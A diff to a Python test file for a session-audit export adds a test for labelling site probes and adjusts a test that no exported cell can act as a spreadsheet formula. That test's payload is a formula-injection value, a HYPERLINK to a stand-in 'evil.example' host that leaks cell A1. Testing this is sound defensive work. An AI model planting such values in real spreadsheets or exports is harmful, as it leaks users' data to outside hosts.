@@ -76,6 +76,7 @@ def test_holds_what_is_known_of_a_session_with_times_in_utc_wherever_the_site_is
             "extensions": "1",
             "held_seconds": "12.5",
             "impersonator": "boss",
+            "probe": "false",
         }
     ]
 
@@ -100,10 +101,18 @@ def test_holds_what_the_list_shows_and_all_pages_of_it(auditor: Client):
     assert [row["session"] for row in exported(auditor, "?o=0.-3")][-1] == "b1"
 
 
+def test_a_probe_of_the_site_is_named_and_found(auditor: Client):
+    record("w1")
+    record("probe:9Qw2_-", user_agent="idlewatch-doctor")
+    for query in ("?q=probe:9Qw2_-", "?q=doctor"):
+        (row,) = exported(auditor, query)
+        assert (row["session"], row["device"], row["probe"]) == ("probe:9Qw2_-", "Check of this site", "true")
+
+
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
 def test_no_cell_is_a_formula(auditor: Client, monkeypatch: pytest.MonkeyPatch, first: str):
     # What a user agent calls itself is part of the name of a device.
-    monkeypatch.setattr(export, "device_of", str)
+    monkeypatch.setattr(export, "device_name", lambda _, user_agent: user_agent)
     evil = f'{first}HYPERLINK("http://evil.example/?"&A1,"x")'
     texts = {"username": evil, "user_agent": evil, "address": evil[:64], "ended_by_name": evil}
     record(evil[:32], reason="revoked", ended=as_datetime(START), **texts)
